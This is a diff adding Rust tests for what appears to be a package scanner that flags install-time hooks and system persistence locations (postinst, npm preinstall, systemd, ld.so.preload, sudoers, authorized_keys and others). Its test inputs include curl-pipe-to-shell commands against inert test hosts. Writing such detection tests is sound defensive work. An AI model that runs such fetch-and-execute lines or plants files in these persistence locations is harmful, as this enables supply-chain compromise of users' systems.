@@ -34,7 +34,7 @@ fn check(path: &str, bytes: &str, expected: &[&str]) {
 fn maintainer_scripts_are_told_and_more_so_when_they_fetch() {
     check("a.deb!/control.tar.xz!/./postinst", "#!/bin/sh\nldconfig\n", &["action deb:postinst"]);
     let fetches = "#!/bin/sh\ncurl https://inert.test | sh\n";
-    let both = ["action deb:postinst", "script deb:postinst eval+network"];
+    let both = ["action deb:postinst", "script deb:postinst eval+exec+network"];
     check("a.deb!/control.tar.xz!/./postinst", fetches, &both);
     check("usr/share/doc/postinst", fetches, &[]);
     check("a.pkg!/Scripts!/preinstall", "#!/bin/sh\n", &["action pkg:preinstall"]);
@@ -53,7 +53,7 @@ fn lifecycle_scripts_of_npm() {
     let fetches = r#"{"scripts": {"preinstall": "curl https://inert.test/2 | bash"}}"#;
     let expected = [
         "action npm:preinstall curl https://inert.test/0 | bash",
-        "script npm:preinstall eval+network",
+        "script npm:preinstall eval+exec+network",
     ];
     check("package/package.json", fetches, &expected);
     check("package/package.json", "{\"scripts\": 3", &[]);
@@ -125,4 +125,166 @@ fn installers_actions_come_as_facts() {
     let found = observed("a.msi", "", &[fact]);
     assert_eq!(found[0], "installation.action customaction 0: cmd.exe /c curl http://inert.test");
     assert!(found[1].starts_with("installation.script action network "), "{found:?}");
+}
+
+/// Only what is told of a file's place, without its content.
+fn action(path: &str) -> Vec<String> {
+    let shown = |s: String| s.trim_start_matches("installation.action ").to_owned();
+    observed(path, "inert\n", &[]).into_iter().map(shown).collect()
+}
+
+#[test]
+fn packagers_run_files_of_certain_names() {
+    for (path, role) in [
+        ("x.rpm!/scripts/post.sh", "rpm:post.sh"),
+        ("scripts/preun.lua", "rpm:preun.lua"),
+        ("scripts/triggerin-0.sh", "rpm:triggerin-0.sh"),
+        (".INSTALL", "arch:.INSTALL"),
+        ("x.apk!/.post-install", "alpine:.post-install"),
+        (".trigger", "alpine:.trigger"),
+        ("meta/hooks/install", "snap:install"),
+        ("bin/.inert-post-link.sh", "conda:.inert-post-link.sh"),
+        ("Scripts/.inert-pre-unlink.bat", "conda:.inert-pre-unlink.bat"),
+        ("info/post-link.sh", "conda:post-link.sh"),
+        ("DEBIAN/postinst", "deb:postinst"),
+        ("postinst", "deb:postinst"),
+        ("lib/python3/sitecustomize.py", "python-start:sitecustomize.py"),
+        ("lib/python3/usercustomize.py", "python-start:usercustomize.py"),
+        ("ext/mkrf_conf.rb", "ruby:mkrf_conf.rb"),
+        ("x.nupkg!/tools/init.ps1", "nuget:init.ps1"),
+    ] {
+        assert_eq!(action(path), [role], "{path}");
+    }
+    for path in [
+        "package/scripts/build.sh",
+        "package/scripts/postgres.sh",
+        "src/.INSTALL",
+        "docs/.post-install",
+        "my-meta/hooks/install",
+        "bin/inert-post-link.sh",
+        "tests/sitecustomize.py",
+        "src/postinst",
+        "docs/init.ps1",
+    ] {
+        assert!(action(path).is_empty(), "{path}");
+    }
+}
+
+#[test]
+fn places_from_which_systems_start_things() {
+    for path in [
+        "etc/systemd/system/ssh.service.d/x.conf",
+        "lib/systemd/system/x.timer",
+        "usr/lib/systemd/system-generators/x",
+        "etc/apt/apt.conf.d/99x",
+        "etc/pam.d/x",
+        "etc/ld.so.preload",
+        "etc/ld.so.conf.d/x.conf",
+        "etc/update-motd.d/99-x",
+        "etc/rc.local",
+        "etc/NetworkManager/dispatcher.d/99x",
+        "usr/share/polkit-1/rules.d/x.rules",
+        "usr/share/dbus-1/system-services/x.service",
+        "usr/lib/udev/rules.d/60-x.rules",
+        "etc/modules-load.d/x.conf",
+        "etc/profile.d/x.sh",
+        "etc/xdg/autostart/x.desktop",
+        "etc/sudoers.d/x",
+        "etc/cron.daily/x",
+        "root/.ssh/authorized_keys",
+        "etc/skel/.bashrc",
+        "Library/LaunchDaemons/x.plist",
+        "Library/PrivilegedHelperTools/x",
+        "etc/periodic/daily/500.x",
+        "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/x.bat",
+    ] {
+        let found = action(&format!("x.deb!/data.tar.xz!/./{path}"));
+        assert_eq!(found.len(), 1, "{path}: {found:?}");
+        let told_about = action(&format!("x.deb!/data.tar.xz!/./usr/share/doc/x/examples/{path}"));
+        assert!(told_about.is_empty(), "{path}: {told_about:?}");
+        assert!(action(&format!("package/tests/data/{path}")).is_empty(), "{path}");
+    }
+    for path in ["etc/x.conf", "usr/share/pam.d.txt", "src/cron.rs", "lib/systemd/system/x.txt"] {
+        assert!(action(path).is_empty(), "{path}");
+    }
+}
+
+#[test]
+fn a_rotation_of_logs_starts_what_it_runs() {
+    let plain = "/var/log/x {\n weekly\n}\n";
+    check("etc/logrotate.d/x", plain, &[]);
+    let runs = "/var/log/x {\n postrotate\n /usr/bin/inert reload\n endscript\n}\n";
+    let expected = ["action logrotate:x", "action logrotate:x /usr/bin/inert"];
+    check("etc/logrotate.d/x", runs, &expected);
+}
+
+#[test]
+fn a_link_in_such_a_place_is_a_trait_of_its_own() {
+    let told = |path| -> Vec<String> {
+        link(path, "../x").iter().map(|o| o.of.value.as_raw().to_owned()).collect()
+    };
+    let wants = "data.tar!/./etc/systemd/system/multi-user.target.wants/x.service";
+    assert_eq!(told(wants), ["systemd:multi-user.target.wants/x.service (link)"]);
+    assert!(told("usr/lib/libx.so").is_empty());
+    assert!(told("usr/share/doc/x/etc/systemd/system/a.target.wants/x.service").is_empty());
+}
+
+#[test]
+fn manifests_of_other_builders() {
+    let composer = r#"{"type": "composer-plugin", "extra": {"class": "Inert"},
+        "scripts": {"post-install-cmd": ["@php x.php"], "test": "phpunit"}}"#;
+    let expected = ["action composer:plugin \"inert\"", "action composer:post-install-cmd @php x.php"];
+    check("composer.json", composer, &expected);
+    check("composer.json", r#"{"type": "library", "scripts": {"test": "x"}}"#, &[]);
+    let backend = "[build-system]\nbuild-backend = \"inert.build\"\nbackend-path = [\"_own\"]\n";
+    check("pyproject.toml", backend, &["action python:backend _own/inert/build.py"]);
+    check("pyproject.toml", "[build-system]\nbuild-backend = \"hatchling.build\"\n", &[]);
+    let cargo = "[package]\nname = \"x\"\nbuild = \"own.rs\"\n";
+    check("Cargo.toml", cargo, &["action rust:build own.rs"]);
+    check("Cargo.toml", "[package]\nbuild = \"build.rs\"\n", &[]);
+    let targets = "<Project><Target><Exec Command=\"curl http://inert.test\"/></Target></Project>";
+    let expected = ["action nuget-build:exec", "script nuget-build network"];
+    check("build/x.targets", targets, &expected);
+    check("build/x.targets", "<Project><ItemGroup/></Project>", &[]);
+    let appx = "<uap:Extension Category=\"windows.startupTask\"/><x Category='windows.fileSave'/>";
+    check("AppxManifest.xml", appx, &["action appx:windows.startupTask"]);
+    let task = "<Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Exec>\
+        <Command>inert.exe</Command><Arguments>-f</Arguments></Exec></Task>";
+    check("data/job.xml", task, &["action task:inert.exe -f"]);
+    check("data/job.xml", "<Task><Exec><Command>inert.exe</Command></Exec></Task>", &[]);
+}
+
+#[test]
+fn an_address_in_an_installation_script_counts_with_its_numbers() {
+    let told = |url: &str, version: &str| {
+        let code = format!("#!/bin/sh\nURL={url}\ncurl -s \"$URL/x-{version}.tar\" -o x\n");
+        observed("DEBIAN/postinst", &code, &[])
+    };
+    let first = told("http://192.0.2.10/a", "1.0");
+    assert_eq!(first, told("http://192.0.2.10/a", "1.1"));
+    assert_ne!(first, told("http://198.51.100.77/a", "1.0"));
+    assert_ne!(first, told("http://inert.test/a", "1.0"));
+    // Without a word that fetches, the host itself is told.
+    let other = |url: &str| {
+        let code = format!("#!/bin/sh\nURL={url}\neval \"$GET $URL\"\n");
+        observed("DEBIAN/postinst", &code, &[])
+    };
+    assert_ne!(other("https://a.inert.test/1"), other("https://b.inert.test/1"));
+    assert_eq!(other("https://a.inert.test/1"), other("https://a.inert.test/2"));
+}
+
+#[test]
+fn scripts_that_lifecycle_scripts_call_are_read_too() {
+    let matchers = Matchers::built_in().expect("built in");
+    let starts = |manifest: &str| {
+        let bytes = manifest.as_bytes();
+        let (path, format, images, facts) = ("package.json", Format::Json, &[], &[]);
+        let input = FileInput { path, format, bytes, images, facts, runs_at_installation: false };
+        of_file(&input, &matchers).starts
+    };
+    let called = r#"{"scripts": {"postinstall": "npm run setup", "setup": "node setup"}}"#;
+    assert_eq!(starts(called), ["setup"]);
+    let round = r#"{"scripts": {"postinstall": "npm run a", "a": "npm run b", "b": "npm run a"}}"#;
+    assert!(starts(round).is_empty());
+    assert!(starts(r#"{"scripts": {"test": "node test.js"}}"#).is_empty());
 }
